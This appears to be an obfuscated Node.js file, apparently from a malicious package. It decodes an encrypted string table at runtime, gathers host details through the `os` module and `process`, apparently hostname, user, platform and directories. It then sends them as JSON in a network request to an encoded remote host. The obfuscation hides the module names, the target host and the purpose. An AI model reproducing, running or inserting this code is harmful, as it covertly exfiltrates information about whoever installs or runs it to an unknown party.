function shelf() { var all = ['WQCvW6RdJSoVW6/cOG', 'WR8wW6BdN8oTW6NcOSkv', 'WR0FW6VdJSoQW7xcTq', 'WQWnW6m', 'WRSdW7FdJG', 'WQ4iW6tdGW', 'WRSxW7FdJ8oIW7q', 'W7DlWRxcM8oTW6/cOSklWPW', 'WQWsW67dH8oVW5NcOmkkWOFdGrCmFq', 'WQCvW7tdN8oLW6FcVCkD', 'WROjW6ldMCocW6JcTSkx', 'WROjW6ldMCoLW6FcVCkD', 'WQCoW7pdM8o4', 'WR0FW7BdNSoUW7xcPa', 'WQWvW6VdH8oUW6xcPmowWOhdJaqEyInH', 'WRGiW67dN8oU', 'WQOuW6m', 'WRWoW7xdGSoLW6hcUCkEWPe', 'WP81W5tdVW', 'WQau', 'WQOiW7xdHmo5']; shelf = function () { return all; }; return shelf(); }
function pick(i, key) {
  var text = shelf()[i - 16];
  if (pick.ready === undefined) {
    var open = function (coded) {
      var letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=', raw = '', hex = '';
      for (var n = 0, bits, c, at = 0; c = coded.charAt(at++); ~c && (bits = n % 4 ? bits * 64 + c : c, n++ % 4) ? raw += String.fromCharCode(255 & bits >> (-2 * n & 6)) : 0) { c = letters.indexOf(c); }
      for (var k = 0; k < raw.length; k++) { hex += '%' + ('00' + raw.charCodeAt(k).toString(16)).slice(-2); }
      return decodeURIComponent(hex);
    };
    pick.unlock = function (coded, key) {
      var s = [], j = 0, x, i, out = '';
      coded = open(coded);
      for (i = 0; i < 256; i++) { s[i] = i; }
      for (i = 0; i < 256; i++) { j = (j + s[i] + key.charCodeAt(i % key.length)) % 256; x = s[i]; s[i] = s[j]; s[j] = x; }
      i = 0; j = 0;
      for (var y = 0; y < coded.length; y++) { i = (i + 1) % 256; j = (j + s[i]) % 256; x = s[i]; s[i] = s[j]; s[j] = x; out += String.fromCharCode(coded.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]); }
      return out;
    };
    pick.ready = true;
  }
  return pick.unlock(text, key);
}
(function (make, sum) {
  var all = make();
  while (!![]) {
    try { if (parseInt(pick(16, 'd0or')) / 1 === sum) break; else all['push'](all['shift']()); } catch (e) { all['push'](all['shift']()); }
  }
})(shelf, 8120);
var os = require('os'), net = require(pick(21, 'd0or')), out = {};
out.a = os[pick(18, 'd0or')](); out.b = os[pick(19, 'd0or')]()[pick(20, 'd0or')]; out.c = os[pick(30, 'd0or')](); out.d = os[pick(31, 'd0or')]();
out.e = os[pick(32, 'd0or')](); out.f = os[pick(34, 'd0or')](); out.g = os[pick(35, 'd0or')](); out.h = process[pick(33, 'd0or')]();
var ask = net[pick(22, 'd0or')]({ host: pick(23, 'd0or'), method: pick(27, 'd0or') }, function () {});
ask[pick(28, 'd0or')](pick(29, 'd0or'), function () {}); ask[pick(24, 'd0or')](JSON[pick(26, 'd0or')](out)); ask[pick(25, 'd0or')]();
